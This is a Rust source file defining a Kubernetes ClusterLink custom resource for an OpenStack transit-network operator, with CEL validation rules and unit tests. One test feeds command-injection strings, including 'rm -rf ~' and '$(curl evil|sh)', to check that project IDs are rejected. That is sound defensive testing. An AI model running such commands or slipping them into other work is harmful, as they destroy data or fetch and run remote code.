//! The `ClusterLink` custom resource.

use k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition;
use kube::{CustomResource, KubeSchema};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// Plumbs one service cluster into the gateway cluster: a leg port on the transit network
/// attached to the service cluster's router, and a route on the gateway cluster's router.
#[derive(CustomResource, KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Default)]
#[kube(
    group = "ipsec.bnerd.net",
    version = "v1alpha1",
    kind = "ClusterLink",
    plural = "clusterlinks",
    shortname = "clink",
    status = "ClusterLinkStatus",
    derive = "PartialEq",
    derive = "Default",
    cel,
    printcolumn = r#"{"name":"Router","type":"string","jsonPath":".spec.serviceClusterRouter"}"#,
    printcolumn = r#"{"name":"CIDR","type":"string","jsonPath":".spec.serviceClusterCIDR"}"#,
    printcolumn = r#"{"name":"Transit IP","type":"string","jsonPath":".status.transitIP"}"#,
    printcolumn = r#"{"name":"Ready","type":"string","jsonPath":".status.conditions[?(@.type==\"Ready\")].status"}"#,
    printcolumn = r#"{"name":"Reverse Routes","type":"string","jsonPath":".status.conditions[?(@.type==\"ReverseRoutesInstalled\")].status"}"#,
    printcolumn = r#"{"name":"Age","type":"date","jsonPath":".metadata.creationTimestamp"}"#
)]
#[x_kube(
    validation = Rule::new("!has(self.customerProjectID) || has(self.credentialsSecretRef)")
        .message("customerProjectID may only be set on a cross-tenant link (together with credentialsSecretRef)"),
    validation = Rule::new("!has(oldSelf.customerProjectID) || (has(self.customerProjectID) && self.customerProjectID == oldSelf.customerProjectID)")
        .message("customerProjectID is immutable once set: it can be neither changed nor removed"),
    validation = Rule::new("has(self.credentialsSecretRef) == has(oldSelf.credentialsSecretRef)")
        .message("credentialsSecretRef cannot be set on or taken off an existing ClusterLink; switching between same-tenant and cross-tenant is delete-and-recreate"),
    validation = Rule::new("!has(self.transitIsolation) || has(self.credentialsSecretRef)")
        .message("transitIsolation is only for a cross-tenant link (one with credentialsSecretRef)"),
    validation = Rule::new("(has(self.transitIsolation) ? self.transitIsolation : 'Shared') == (has(oldSelf.transitIsolation) ? oldSelf.transitIsolation : 'Shared')")
        .message("transitIsolation is immutable (absent is Shared): switching between Shared and PerCustomer is delete-and-recreate")
)]
#[serde(rename_all = "camelCase")]
pub struct ClusterLinkSpec {
    /// The service cluster's OpenStack router, by name or ID; resolved at every reconcile.
    #[schemars(length(min = 1, max = 255))]
    pub service_cluster_router: String,

    /// The service cluster's network routed via the leg, e.g. 10.251.0.0/16.
    #[serde(rename = "serviceClusterCIDR")]
    #[schemars(length(min = 9, max = 18))]
    pub service_cluster_cidr: String,

    /// Pins the leg's transit IP (e.g. to adopt a hand-made leg); default: the first free
    /// address from the transit subnet's .3.
    #[serde(rename = "transitIP", default, skip_serializing_if = "Option::is_none")]
    #[schemars(length(max = 15))]
    pub transit_ip: Option<String>,

    /// Cross-tenant only: the Secret `clusterlink-<name>` in the operator's credentials
    /// namespace holding the customer's application credential.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub credentials_secret_ref: Option<SecretRef>,

    /// Cross-tenant only: the customer OpenStack project the credential must authenticate
    /// into, by its Keystone ID (32 lowercase hex digits, or a UUID with dashes). Operator
    /// messages carry it into a command an admin pastes (TransitNetworkNotShared), so it is
    /// an ID and nothing else.
    #[serde(
        rename = "customerProjectID",
        default,
        skip_serializing_if = "Option::is_none"
    )]
    #[schemars(length(min = 1, max = 64))]
    #[x_kube(
        validation = Rule::new(
            "self.matches('^([0-9a-f]{32}|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})$')"
        )
        .message(
            "customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes (openstack project show <project> -f value -c id)"
        )
    )]
    pub customer_project_id: Option<String>,

    /// Cross-tenant only, immutable: how the link reaches the transit network; absent is
    /// Shared. The CRD carries [`TransitIsolation`]'s description for it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub transit_isolation: Option<TransitIsolation>,
}

/// Cross-tenant only, immutable (switching is delete-and-recreate): how the link reaches the
/// transit network. Shared, the default when absent: a leg on the transit network, which is
/// shared with the customer project. PerCustomer: a small network cut from the operator's
/// pool and shared with the customer project only, behind an operator-owned edge router on
/// the transit network; it needs no attestation annotation.
#[derive(JsonSchema, Serialize, Deserialize, Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum TransitIsolation {
    /// A leg on the transit network, shared with the customer project: that project reaches
    /// every other link through it, hence the attestation annotation.
    #[default]
    Shared,
    /// A network of the operator's pool shared with the customer project only, and an
    /// operator-owned edge router between it and the transit network.
    PerCustomer,
}

/// Reference to a Secret by namespace and name.
#[derive(KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Eq, Default)]
pub struct SecretRef {
    #[schemars(length(min = 1, max = 253))]
    pub name: String,
    #[schemars(length(min = 1, max = 63))]
    pub namespace: String,
}

/// Observed state; every cloud object the link owns is named here so deletion can find it.
#[derive(KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Default)]
#[serde(rename_all = "camelCase")]
pub struct ClusterLinkStatus {
    /// The leg port's address on the transit network.
    #[serde(rename = "transitIP", default, skip_serializing_if = "Option::is_none")]
    pub transit_ip: Option<String>,

    /// The leg port's Neutron ID.
    #[serde(rename = "legPortID", default, skip_serializing_if = "Option::is_none")]
    pub leg_port_id: Option<String>,

    /// The router the leg is attached to, as resolved from spec.serviceClusterRouter.
    #[serde(
        rename = "serviceRouterID",
        default,
        skip_serializing_if = "Option::is_none"
    )]
    pub service_router_id: Option<String>,

    /// The route this link installed on the gateway cluster's router.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub gateway_route: Option<RouteRecord>,

    /// Cross-tenant only: the project the leg was built in.
    #[serde(
        rename = "customerProjectID",
        default,
        skip_serializing_if = "Option::is_none"
    )]
    pub customer_project_id: Option<String>,

    /// PerCustomer only: what a PerCustomer link uses: its project's network, subnet, edge
    /// router and the edge router's address on the main transit.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub customer_transit: Option<CustomerTransit>,

    /// Routes on the service cluster's router back to each reverse-exposure gateway.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub reverse_routes: Vec<ReverseRoute>,

    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub observed_generation: Option<i64>,

    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    #[schemars(extend("x-kubernetes-list-type" = "map", "x-kubernetes-list-map-keys" = ["type"]))]
    pub conditions: Vec<Condition>,
}

/// What a PerCustomer link uses: its project's network, subnet, edge router and the edge
/// router's address on the main transit.
#[derive(KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Eq, Default)]
#[serde(rename_all = "camelCase")]
pub struct CustomerTransit {
    /// The customer project's network, from the operator's pool.
    #[serde(rename = "networkID", default, skip_serializing_if = "Option::is_none")]
    pub network_id: Option<String>,

    /// That network's one subnet.
    #[serde(rename = "subnetID", default, skip_serializing_if = "Option::is_none")]
    pub subnet_id: Option<String>,

    /// That subnet's CIDR, a block of the pool.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub cidr: Option<String>,

    /// The operator-owned edge router between that network and the main transit network.
    #[serde(
        rename = "edgeRouterID",
        default,
        skip_serializing_if = "Option::is_none"
    )]
    pub edge_router_id: Option<String>,

    /// The edge router's address on the main transit network.
    #[serde(
        rename = "edgeRouterTransitIP",
        default,
        skip_serializing_if = "Option::is_none"
    )]
    pub edge_router_transit_ip: Option<String>,
}

/// One static route: destination via nexthop.
#[derive(
    KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord,
)]
pub struct RouteRecord {
    pub destination: String,
    pub nexthop: String,
}

/// A route on the service router to one gateway's status.serviceCIDR.
#[derive(
    KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord,
)]
#[serde(rename_all = "camelCase")]
pub struct ReverseRoute {
    #[serde(rename = "serviceCIDR")]
    pub service_cidr: String,
    pub next_hop: String,
    pub gateway_ref: GatewayRef,
}

/// Which gateway a reverse route serves.
#[derive(
    KubeSchema, Serialize, Deserialize, Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord,
)]
pub struct GatewayRef {
    pub kind: String,
    pub namespace: String,
    pub name: String,
}

impl ClusterLink {
    /// Same-tenant unless a credentials Secret is referenced.
    pub fn is_cross_tenant(&self) -> bool {
        self.spec.credentials_secret_ref.is_some()
    }
}

impl ClusterLinkSpec {
    /// `spec.transitIsolation` is PerCustomer (absent is Shared). Read from the field alone:
    /// the apiserver admits it only together with credentialsSecretRef, but a spec that never
    /// met the apiserver (`kubectl clusterlink plan` on a file) may carry it without, and
    /// refusing that is validation's call, not this helper's.
    pub fn per_customer(&self) -> bool {
        self.transit_isolation == Some(TransitIsolation::PerCustomer)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use kube::CustomResourceExt;

    fn link(spec: serde_json::Value) -> ClusterLink {
        serde_json::from_value(serde_json::json!({
            "apiVersion": "ipsec.bnerd.net/v1alpha1", "kind": "ClusterLink",
            "metadata": {"name": "svc01-link"}, "spec": spec,
        }))
        .unwrap()
    }

    fn same_tenant() -> ClusterLink {
        link(
            serde_json::json!({"serviceClusterRouter": "r", "serviceClusterCIDR": "10.251.0.0/16"}),
        )
    }

    fn cross_tenant(project: Option<&str>) -> ClusterLink {
        let mut spec = serde_json::json!({
            "serviceClusterRouter": "r", "serviceClusterCIDR": "10.234.0.0/16",
            "credentialsSecretRef": {"name": "clusterlink-svc01-link", "namespace": "bnerd-vpn-clusterlinks"},
        });
        if let Some(p) = project {
            spec["customerProjectID"] = p.into();
        }
        link(spec)
    }

    /// Keystone project IDs as Keystone writes them (uuid4 hex), and as a UUID with dashes.
    const P1: &str = "0123456789abcdef0123456789abcdef";
    const P2: &str = "c0ffee00-1111-4222-8333-444455556666";

    /// spec.customerProjectID is an ID, nothing else: it reaches a command an admin pastes.
    #[test]
    fn cel_customer_project_is_a_keystone_id() {
        for ok in [P1, P2] {
            assert!(cross_tenant(Some(ok)).validate_cel().is_ok(), "{ok}");
        }
        for bad in [
            "p1",
            "customer",
            "0123456789ABCDEF0123456789ABCDEF",
            "0123456789abcdef0123456789abcde",
            "0123456789abcdef0123456789abcdef0",
            "c0ffee00-1111-4222-8333-44445555666",
            "c0ffee0011114222833344445555666-",
            "0123456789abcdef0123456789abcdef; rm -rf ~",
            "$(curl evil|sh)",
            "0123456789abcdef0123456789abcdef\n",
        ] {
            let err = message(cross_tenant(Some(bad)).validate_cel().unwrap_err());
            assert!(
                err.contains("customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes"),
                "{bad:?}: {err}"
            );
        }
    }

    fn message(err: impl std::fmt::Debug) -> String {
        format!("{err:?}")
    }

    #[test]
    fn spec_field_names_match_the_spec() {
        let v = serde_json::to_value(cross_tenant(Some(P1)).spec).unwrap();
        for key in [
            "serviceClusterRouter",
            "serviceClusterCIDR",
            "credentialsSecretRef",
            "customerProjectID",
        ] {
            assert!(v.get(key).is_some(), "{key} missing from {v}");
        }
        let s = ClusterLinkStatus {
            transit_ip: Some("10.254.0.3".into()),
            leg_port_id: Some("p".into()),
            ..Default::default()
        };
        let v = serde_json::to_value(s).unwrap();
        assert!(v.get("transitIP").is_some() && v.get("legPortID").is_some());
    }

    #[test]
    fn crd_is_cluster_scoped_with_rules_and_columns() {
        let crd = serde_json::to_string(&ClusterLink::crd()).unwrap();
        assert!(crd.contains(r#""scope":"Cluster""#));
        assert!(crd.contains("x-kubernetes-validations"));
        assert!(crd.contains(r#""x-kubernetes-list-type":"map""#));
        for col in ["Router", "CIDR", "Transit IP", "Ready", "Age"] {
            assert!(crd.contains(&format!(r#""name":"{col}""#)), "{col}");
        }
    }

    #[test]
    fn cel_same_tenant_may_not_carry_customer_project() {
        let mut l = same_tenant();
        assert!(l.validate_cel().is_ok());
        l.spec.customer_project_id = Some(P1.into());
        assert!(
            message(l.validate_cel().unwrap_err()).contains("customerProjectID may only be set")
        );
        assert!(cross_tenant(Some(P1)).validate_cel().is_ok());
        assert!(
            cross_tenant(None).validate_cel().is_ok(),
            "missing project is the operator's InvalidSpec"
        );
    }

    #[test]
    fn cel_customer_project_is_immutable() {
        let old = cross_tenant(Some(P1));
        assert!(cross_tenant(Some(P1)).validate_cel_update(&old).is_ok());
        let err = cross_tenant(Some(P2))
            .validate_cel_update(&old)
            .unwrap_err();
        assert!(message(err).contains("immutable"));
        let err = cross_tenant(None).validate_cel_update(&old).unwrap_err();
        assert!(message(err).contains("immutable"));
        // Setting it on an object that predates the field is allowed.
        assert!(
            cross_tenant(Some(P1))
                .validate_cel_update(&cross_tenant(None))
                .is_ok()
        );
    }

    fn isolated(mut l: ClusterLink, mode: Option<TransitIsolation>) -> ClusterLink {
        l.spec.transit_isolation = mode;
        l
    }

    const ONLY_CROSS_TENANT: &str =
        "transitIsolation is only for a cross-tenant link (one with credentialsSecretRef)";
    const IMMUTABLE: &str = "transitIsolation is immutable (absent is Shared): switching between Shared and PerCustomer is delete-and-recreate";

    #[test]
    fn cel_transit_isolation_is_for_cross_tenant_links_only() {
        use TransitIsolation::*;
        for mode in [Shared, PerCustomer] {
            let err = isolated(same_tenant(), Some(mode))
                .validate_cel()
                .unwrap_err();
            assert!(message(err).contains(ONLY_CROSS_TENANT), "{mode:?}");
            assert!(
                isolated(cross_tenant(Some(P1)), Some(mode))
                    .validate_cel()
                    .is_ok(),
                "{mode:?}"
            );
        }
    }

    #[test]
    fn cel_transit_isolation_is_immutable_with_absent_as_shared() {
        use TransitIsolation::*;
        let at = |mode| isolated(cross_tenant(Some(P1)), mode);
        for (old, new, allowed) in [
            (None, None, true),
            (None, Some(Shared), true),
            (Some(Shared), None, true),
            (Some(Shared), Some(Shared), true),
            (Some(PerCustomer), Some(PerCustomer), true),
            (None, Some(PerCustomer), false),
            (Some(Shared), Some(PerCustomer), false),
            (Some(PerCustomer), Some(Shared), false),
            (Some(PerCustomer), None, false),
        ] {
            let got = at(new).validate_cel_update(&at(old));
            match got {
                Ok(()) => assert!(allowed, "{old:?} -> {new:?} was allowed"),
                Err(e) => {
                    assert!(!allowed, "{old:?} -> {new:?}: {e:?}");
                    assert!(message(e).contains(IMMUTABLE), "{old:?} -> {new:?}");
                }
            }
        }
    }

    #[test]
    fn transit_isolation_is_spelled_shared_or_per_customer() {
        let mut spec = serde_json::to_value(cross_tenant(Some(P1)).spec).unwrap();
        assert!(spec.get("transitIsolation").is_none(), "absent unless set");
        let parsed: ClusterLinkSpec = serde_json::from_value(spec.clone()).unwrap();
        assert!(!parsed.per_customer(), "absent is Shared");
        for (text, mode, per_customer) in [
            ("Shared", TransitIsolation::Shared, false),
            ("PerCustomer", TransitIsolation::PerCustomer, true),
        ] {
            spec["transitIsolation"] = text.into();
            let parsed: ClusterLinkSpec = serde_json::from_value(spec.clone()).unwrap();
            assert_eq!(parsed.transit_isolation, Some(mode));
            assert_eq!(parsed.per_customer(), per_customer, "{text}");
            assert_eq!(serde_json::to_value(&parsed).unwrap(), spec);
        }
        for bad in ["perCustomer", "per-customer", "Isolated", ""] {
            spec["transitIsolation"] = bad.into();
            assert!(
                serde_json::from_value::<ClusterLinkSpec>(spec.clone()).is_err(),
                "{bad:?}"
            );
        }
        let crd = serde_json::to_value(ClusterLink::crd()).unwrap();
        let schema = &crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"];
        let field = &schema["properties"]["spec"]["properties"]["transitIsolation"];
        assert_eq!(field["type"], "string", "{field}");
        assert_eq!(
            field["enum"],
            serde_json::json!(["Shared", "PerCustomer"]),
            "{field}"
        );
    }

    #[test]
    fn customer_transit_status_names() {
        let s = ClusterLinkStatus {
            customer_transit: Some(CustomerTransit {
                network_id: Some("n".into()),
                subnet_id: Some("s".into()),
                cidr: Some("10.255.0.0/28".into()),
                edge_router_id: Some("r".into()),
                edge_router_transit_ip: Some("10.254.0.7".into()),
            }),
            ..Default::default()
        };
        let v = serde_json::to_value(&s).unwrap();
        assert_eq!(
            v["customerTransit"],
            serde_json::json!({
                "networkID": "n", "subnetID": "s", "cidr": "10.255.0.0/28",
                "edgeRouterID": "r", "edgeRouterTransitIP": "10.254.0.7",
            })
        );
        let empty = serde_json::to_value(ClusterLinkStatus::default()).unwrap();
        assert!(empty.get("customerTransit").is_none(), "{empty}");
    }

    #[test]
    fn cel_credentials_ref_may_not_be_added_or_removed() {
        let err = cross_tenant(Some(P1))
            .validate_cel_update(&same_tenant())
            .unwrap_err();
        assert!(message(err).contains("cannot be set on or taken off"));
        let mut removed = cross_tenant(None);
        removed.spec.credentials_secret_ref = None;
        let err = removed
            .validate_cel_update(&cross_tenant(None))
            .unwrap_err();
        assert!(message(err).contains("cannot be set on or taken off"));
        let mut repointed = cross_tenant(None);
        repointed.spec.credentials_secret_ref.as_mut().unwrap().name = "other".into();
        assert!(repointed.validate_cel_update(&cross_tenant(None)).is_ok());
    }
}
